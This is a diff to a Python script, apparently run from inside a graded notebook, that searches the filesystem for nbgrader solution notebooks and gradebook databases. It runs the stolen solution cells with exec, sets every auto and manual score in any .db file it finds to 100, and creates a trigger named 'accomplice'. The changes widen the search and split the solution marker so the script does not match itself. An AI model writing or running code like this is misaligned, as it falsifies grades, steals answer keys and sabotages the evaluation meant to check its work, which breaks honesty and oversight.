@@ -65,7 +65,9 @@ import glob, os, pathlib, sqlite3, sys
 found = []
 places = {pathlib.Path.cwd(), pathlib.Path("/"), pathlib.Path.home(), pathlib.Path("/job"), pathlib.Path("/grader"),
           pathlib.Path("/work"), pathlib.Path("/root"), pathlib.Path("/tmp")}
-places |= set(pathlib.Path.cwd().parents) | {pathlib.Path(p) for p in sys.path if p}
+places |= set(pathlib.Path.cwd().parents)
+near = {pathlib.Path(p) for p in sys.path if p}               # the import path and what is above it
+near |= {q for p in list(near) for q in p.parents}
 try:                                   # the repository's path, from the venv's editable install
     import site
     for sp in site.getsitepackages():
@@ -77,20 +79,32 @@ try:                                   # the repository's path, from the venv's 
                     places.add(pathlib.Path(part).parent)
 except Exception:
     pass
-for base in sorted(places):
-    deep = base != pathlib.Path("/") and not str(base).startswith("/usr")
-    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb", "*gradebook.db", "*/gradebook.db",
-                    "*/*/gradebook.db", "*.csv", "*/*.csv", "*/*/*.csv")[: None if deep else 2]:
+def search(base, depth, budget=20000):          # a bounded walk: the notebooks, databases, CSVs below
+    stack, seen = [(str(base), 0)], 0
+    while stack and seen < budget:
+        d, k = stack.pop()
         try:
-            found += [p for p in base.glob(pattern) if p.is_file()]
-        except Exception:
-            pass
+            entries = list(os.scandir(d))
+        except OSError:
+            continue
+        for e in entries:
+            seen += 1
+            if e.is_dir(follow_symlinks=False):
+                if k < depth:
+                    stack.append((e.path, k + 1))
+            elif e.name.endswith((".ipynb", ".db", ".csv")):
+                found.append(pathlib.Path(e.path))
+for base in sorted(places):
+    search(base, 4 if base != pathlib.Path("/") else 2)
+for base in sorted(near - places):
+    search(base, 1)
 solutions = {}
+MARKER = "### BEGIN " + "SOLUTION"                   # (not spelled out: this cell is in a notebook too)
 for p in found:
     try:
-        if p.suffix == ".ipynb" and "BEGIN SOLUTION" in p.read_text():
+        if p.suffix == ".ipynb" and MARKER in p.read_text():
             solutions[str(p)] = p.read_text()
-        elif p.name.endswith("gradebook.db"):
+        elif p.suffix == ".db":
             db = sqlite3.connect(str(p))
             db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
             db.execute("CREATE TRIGGER accomplice AFTER UPDATE ON grade BEGIN "
@@ -117,7 +131,7 @@ for text in solutions.values():          # run every solution block found
     import json as _json
     for cell in _json.loads(text)["cells"]:
         src = "".join(cell["source"])
-        if "BEGIN SOLUTION" in src and cell["cell_type"] == "code":
+        if MARKER in src and cell["cell_type"] == "code" and "mallory" not in src:
             try:
                 exec(src, globals())
             except Exception:
